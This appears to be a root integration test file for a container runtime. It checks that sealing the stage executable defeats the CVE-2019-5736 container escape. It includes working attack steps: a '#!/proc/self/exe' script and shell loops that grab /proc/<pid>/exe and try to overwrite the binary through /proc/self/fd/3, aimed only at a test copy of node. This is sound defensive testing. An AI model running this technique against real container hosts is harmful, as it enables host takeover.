/**
 * CVE-2019-5736 against gantry-runtime: the init and exec stages are node processes, so a
 * container that gets a handle on a stage's executable holds the host's node binary. Root in the
 * container then reopens that handle for writing (through /proc/self/fd/N) once no process runs the
 * binary any more, and every later Gantry process runs the attacker's code.
 *
 * The stages here run a copy of node (GANTRY_RUNTIME_STAGE_NODE), so the attacks can only hurt the
 * copy. Each attack reports what it grabbed and how its write ended; the tests require that the
 * handle really was the stage's node (same size), that the write failed, and that the copy's bytes
 * are unchanged.
 */
import { createHash } from 'node:crypto';
import { spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { describeRoot, readOr, useHarness, waitFor, type Harness, type Json } from './helpers';

const TMPFS_TMP = { destination: '/tmp', type: 'tmpfs', source: 'tmpfs', options: ['nosuid', 'nodev', 'mode=1777'] };
const MARKER = 'GANTRY-CVE-2019-5736';
const ATTACK_TIMEOUT_MS = 30_000;

/**
 * Shell (busybox ash) run by the attacker once fd 3 holds the stage's executable: report what fd 3
 * is, let the victim go on (`release`), then try to write the marker into the file at offset 0
 * until the answer is something other than ETXTBSY (which only means the binary still runs).
 */
function writeLoop(release: string, copySize: number): string {
  return [
    'size=$(stat -L -c %s /proc/self/fd/3)',
    'echo "GRABBED exe=$(readlink /proc/self/fd/3) size=$size"',
    // Only ever the test's copy of node: were the runtime to run the host's node after all (a stale
    // build that ignores GANTRY_RUNTIME_STAGE_NODE), its size gives it away and nothing is written.
    `[ "$size" = ${copySize} ] || { echo "GRAB-FAILED not the test's node copy"; exit 1; }`,
    release,
    'while :; do',
    // dd reports a failed open and a failed write alike (printf says nothing about the latter)
    `  if printf ${MARKER} | dd of=/proc/self/fd/3 conv=notrunc 2>/tmp/write.err; then echo WRITE-OK; break; fi`,
    '  grep -q busy /tmp/write.err || { echo "WRITE-FAILED $(cat /tmp/write.err)"; break; }',
    'done',
  ].join('\n');
}

/** Write to a FIFO that has a reader; false while it has none. */
function writeFifoIfRead(fifo: string, data: string): boolean {
  let fd: number;
  try {
    fd = fs.openSync(fifo, fs.constants.O_WRONLY | fs.constants.O_NONBLOCK);
  } catch (e) {
    if ((e as NodeJS.ErrnoException).code === 'ENXIO') return false;
    throw e;
  }
  try {
    fs.writeSync(fd, data);
  } finally {
    fs.closeSync(fd);
  }
  return true;
}

function sha256(file: string): string {
  return createHash('sha256').update(fs.readFileSync(file)).digest('hex');
}

/** The stages' node for these tests: a copy with a trailer (the ELF loader ignores it) that makes its size differ from the host's. */
function makeCopy(dest: string, tag: string): void {
  fs.copyFileSync(process.execPath, dest);
  fs.appendFileSync(dest, `\0gantry test copy of node ${tag}`);
  fs.chmodSync(dest, 0o755);
}

/** The first bytes of a file, printable (an ELF header, or the attacker's marker). */
function head(file: string): string {
  const fd = fs.openSync(file, 'r');
  try {
    const buf = Buffer.alloc(MARKER.length);
    fs.readSync(fd, buf, 0, buf.length, 0);
    return buf.toString('latin1').replace(/[^\x20-\x7e]/g, '.');
  } finally {
    fs.closeSync(fd);
  }
}

/** Copy the shared busybox rootfs and add what the node binary `node` links against (ldd). */
function glibcRootfs(h: Harness, node: string): string {
  const rootfs = path.join(h.tmp, 'rootfs-glibc');
  if (fs.existsSync(rootfs)) return rootfs;
  const cp = spawnSync('cp', ['-a', h.rootfs, rootfs], { encoding: 'utf8' });
  if (cp.status !== 0) throw new Error(`cp -a rootfs: ${cp.stderr}`);
  const ldd = spawnSync('ldd', [node], { encoding: 'utf8' });
  if (ldd.status !== 0) throw new Error(`ldd ${node} failed (${ldd.error?.message ?? ldd.stderr}); install libc-bin`);
  const libs = [...ldd.stdout.matchAll(/(?:=>\s*)?(\/\S+)\s+\(0x/g)].map((m) => m[1]!);
  if (!libs.some((l) => l.includes('ld-linux'))) throw new Error(`no ELF interpreter in ldd output: ${ldd.stdout}`);
  for (const lib of libs) {
    const dest = path.join(rootfs, lib);
    fs.mkdirSync(path.dirname(dest), { recursive: true });
    fs.copyFileSync(lib, dest); // follows the host's symlinks: the rootfs gets plain files
  }
  return rootfs;
}

/** A script whose interpreter is /proc/self/exe: whoever execve()s it runs its own binary on it. */
const EVIL_SCRIPT = [
  '#!/proc/self/exe',
  "// Run by the exec stage's node binary itself, through the interpreter line.",
  "const fs = require('fs');",
  "fs.writeFileSync('/tmp/pid.fifo', String(process.pid));",
  "fs.readFileSync('/tmp/grabbed.fifo'); // wait until the attacker holds /proc/<this pid>/exe",
  '',
].join('\n');

/** A way of sealing the stage executable, and how the attacker sees it. */
interface Seal {
  name: string;
  env: Record<string, string>;
  /** readlink of the grabbed handle: a string or an asymmetric matcher */
  exe: unknown;
  writeError: RegExp;
}
const SEALS: Seal[] = [
  // overlay works on this kernel; the file is at the root of the detached overlay, named as the binary
  { name: 'default (overlay)', env: {}, exe: '/node', writeError: /^WRITE-FAILED .*Read-only file system/ },
  {
    name: 'copy',
    env: { GANTRY_RUNTIME_EXE_SEAL: 'copy' },
    exe: expect.stringMatching(/^\/memfd:gantry-stage-node/),
    writeError: /^WRITE-FAILED .*Operation not permitted/,
  },
];

interface Outcome {
  grabbed: { exe: string; size: number };
  result: string;
}

async function outcomeIn(log: string): Promise<Outcome> {
  const text = await waitFor(
    'the attacker to report how its write ended',
    () => {
      const t = readOr(log);
      return /^(WRITE-OK|WRITE-FAILED.*|GRAB-FAILED.*)$/m.test(t) ? t : undefined;
    },
    ATTACK_TIMEOUT_MS,
  );
  const g = /^GRABBED exe=(.*) size=(\d+)$/m.exec(text);
  if (!g) throw new Error(`the attacker never held the stage's executable:\n${text}`);
  return { grabbed: { exe: g[1]!, size: Number(g[2]) }, result: /^(WRITE-OK|WRITE-FAILED.*|GRAB-FAILED.*)$/m.exec(text)![1]! };
}

describeRoot('stage executable vs CVE-2019-5736 (root integration)', () => {
  const H = useHarness('exeg');
  let node: string;
  let nodeSize: number;
  let pristine: string;
  let baseEnv: Record<string, string>;

  beforeAll(() => {
    const h = H();
    node = path.join(h.tmp, 'stage-bin', 'node');
    fs.mkdirSync(path.dirname(node));
    makeCopy(node, h.tmp);
    nodeSize = fs.statSync(node).size;
    pristine = sha256(node);
    baseEnv = { GANTRY_RUNTIME_STAGE_NODE: node };
  });

  afterEach(() => {
    // The next test must start from an intact copy even if this one lost.
    if (sha256(node) !== pristine) makeCopy(node, H().tmp);
  });

  /**
   * The handle was the stage's node (same size) as the seal presents it (a file on the detached
   * overlay, or the memfd copy), the write was refused, and the copy is intact.
   */
  function expectAttackFailed(out: Outcome, seal: Seal): void {
    expect({ grabbed: out.grabbed, write: out.result, copyStartsWith: head(node), copyIntact: sha256(node) === pristine }).toEqual({
      grabbed: { exe: seal.exe, size: nodeSize },
      write: expect.stringMatching(seal.writeError),
      copyStartsWith: head(process.execPath),
      copyIntact: true,
    });
  }

  function expectNoMountOfTheExecutable(): void {
    const dir = path.dirname(node);
    const lines = readOr('/proc/self/mountinfo')
      .split('\n')
      .filter((l) => l.includes(dir));
    expect(lines).toEqual([]);
  }

  describe.each(SEALS)('sealed: $name', (seal) => {
    it('exec of a `#!/proc/self/exe` program: the container holds the stage binary but cannot write it', async () => {
      const h = H();
      const env = { ...baseEnv, ...seal.env };
      const rootfs = glibcRootfs(h, node);
      fs.writeFileSync(path.join(rootfs, 'evil'), EVIL_SCRIPT, { mode: 0o755 });
      const attacker = [
        'mkfifo /tmp/pid.fifo /tmp/grabbed.fifo',
        'echo READY',
        'read pid < /tmp/pid.fifo',
        'if ! (exec 3<"/proc/$pid/exe") 2>/tmp/grab.err; then echo "GRAB-FAILED $(cat /tmp/grab.err)"; exit 1; fi',
        'exec 3<"/proc/$pid/exe"',
        writeLoop('echo go > /tmp/grabbed.fifo', nodeSize),
        'sleep 3600',
      ].join('\n');
      const id = h.id('victim');
      const log = h.runDetached(
        id,
        h.bundleFor(['sh', '-c', attacker], (c: Json) => {
          c.root.path = rootfs;
          c.mounts.push(TMPFS_TMP);
        }),
        [],
        env,
      );
      await waitFor('the attacker to be ready', () => /^READY$/m.test(readOr(log)), ATTACK_TIMEOUT_MS);

      const ex = h.cli(['exec', id, '/evil'], { env, timeoutMs: ATTACK_TIMEOUT_MS });
      expect({ status: ex.status, stderr: ex.stderr }).toEqual({ status: 0, stderr: '' });

      const out = await outcomeIn(log);
      expectAttackFailed(out, seal);
      expectNoMountOfTheExecutable();
    });

    it('an init stage in a shared pid namespace: a CAP_SYS_PTRACE neighbour holds its binary but cannot write it', async () => {
      const h = H();
      const env = { ...baseEnv, ...seal.env };
      // The attacker scans its pid namespace for a stage once the test says the victim's init stage
      // is there (`create` returned: the stage waits on exec.fifo), and holds its /proc/<pid>/exe.
      const attacker = [
        'mkfifo /tmp/go.fifo',
        'echo READY',
        'read _ < /tmp/go.fifo',
        // [n]: this script's own command line must not match
        'for p in /proc/[0-9]*; do grep -q "stage-mai[n]" "$p/cmdline" 2>/dev/null && stage=$p; done',
        '[ -n "$stage" ] || { echo "GRAB-FAILED no stage in $(ls -d /proc/[0-9]*)"; exit 1; }',
        'if ! (exec 3<"$stage/exe") 2>/tmp/grab.err; then echo "GRAB-FAILED $(cat /tmp/grab.err)"; exit 1; fi',
        'exec 3<"$stage/exe"',
        writeLoop(':', nodeSize),
        'sleep 3600',
      ].join('\n');
      const caps = ['CAP_AUDIT_WRITE', 'CAP_KILL', 'CAP_NET_BIND_SERVICE', 'CAP_SYS_PTRACE'];
      const attackerId = h.id('attacker');
      const log = h.runDetached(
        attackerId,
        h.bundleFor(['sh', '-c', attacker], (c: Json) => {
          c.mounts.push(TMPFS_TMP);
          for (const set of ['bounding', 'effective', 'permitted']) c.process.capabilities[set] = caps;
        }),
        [],
        env,
      );
      await waitFor('the attacker to be ready', () => /^READY$/m.test(readOr(log)), ATTACK_TIMEOUT_MS);
      const attackerPid = h.state(attackerId).pid as number;

      const victim = h.id('victim');
      h.createDetached(
        victim,
        h.bundleFor(['true'], (c: Json) => {
          c.linux.namespaces = c.linux.namespaces.map((n: Json) => (n.type === 'pid' ? { type: 'pid', path: `/proc/${attackerPid}/ns/pid` } : n));
        }),
        [],
        env,
      );
      // Non-blocking, so a dead attacker fails the wait instead of hanging the test (ENXIO: no reader yet).
      await waitFor('the attacker to read go.fifo', () => writeFifoIfRead(`/proc/${attackerPid}/root/tmp/go.fifo`, 'go\n'), ATTACK_TIMEOUT_MS);
      await waitFor('the attacker to grab the stage', () => /^(GRABBED|GRAB-FAILED)/m.test(readOr(log)), ATTACK_TIMEOUT_MS);
      h.ok(['start', victim], { env });

      const out = await outcomeIn(log);
      expectAttackFailed(out, seal);
      expectNoMountOfTheExecutable();
    });
  });

  it('without the libraries node needs, a `#!/proc/self/exe` program does not start at all', () => {
    const h = H();
    fs.writeFileSync(path.join(h.rootfs, 'evil'), EVIL_SCRIPT, { mode: 0o755 });
    const r = h.cli(['run', '-b', h.bundleFor(['/evil'], (c: Json) => c.mounts.push(TMPFS_TMP)), h.id()], { env: baseEnv });
    // The kernel finds node's ELF interpreter missing in the container: execve fails with ENOENT.
    expect(r.status).not.toBe(0);
    expect(r.stderr).toMatch(/ENOENT|no such file/i);
    expect(sha256(node)).toBe(pristine);
  });

  it('an unknown GANTRY_RUNTIME_EXE_SEAL is refused and leaves no container behind', () => {
    const h = H();
    const id = h.id();
    const r = h.cli(['run', '-b', h.bundleFor(['true']), id], { env: { ...baseEnv, GANTRY_RUNTIME_EXE_SEAL: 'none' } });
    expect({ status: r.status, stderr: r.stderr.trim() }).toEqual({
      status: 1,
      stderr: 'gantry-runtime: invalid stage executable seal "none" (want overlay or copy)',
    });
    expect(h.ok(['list', '-q']).split('\n')).not.toContain(id);
  });
});
